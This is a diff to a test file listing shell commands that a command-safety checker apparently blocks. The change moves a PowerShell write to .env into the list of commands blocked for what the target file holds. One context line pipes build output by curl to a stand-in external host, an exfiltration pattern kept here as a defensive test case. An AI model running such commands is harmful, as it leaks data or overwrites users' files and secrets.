@@ -149,7 +149,6 @@ BLOCKED = [
     ("posix", "ln -sf a b c/"),  # links in a folder the words do not name
     ("posix", "make | tee >(curl -d @- http://x.example)"),
     ("powershell", "'DEBUG=1' | Out-File .env"),
-    ("powershell", "[IO.File]::WriteAllBytes('.env', $b)"),
     ("powershell", "[IO.File]::WriteAllText($path, 'x')"),
     ("powershell", "cd src; [IO.File]::WriteAllText('new.txt', 'x')"),  # .NET's folder is not where cd went
     ("posix", "sort data/names.txt > data/names.txt"),  # read and emptied by the same line
@@ -208,6 +207,7 @@ BLOCKED_BY_WHAT_IT_HOLDS = [  # blocked in `repo` for what its files hold or whe
     ("posix", "python gen.py > README.md"),
     ("posix", "echo x > notes.txt"),  # untracked, not ignored: maybe the user's work
     ("posix", "echo 'DEBUG=1' > .env"),  # ignored, but it holds the user's keys, not output
+    ("powershell", "[IO.File]::WriteAllBytes('.env', $b)"),  # (as `> .env` is)
     ("posix", "cat build/*.log > build/test.log"),  # a glob may name an existing file
     ("posix", "ln -sf x.py src/app.py"),  # the link replaces a tracked file
     ("posix", 'echo "cd /tmp" > run.sh; echo x > notes.txt'),  # still this folder's notes
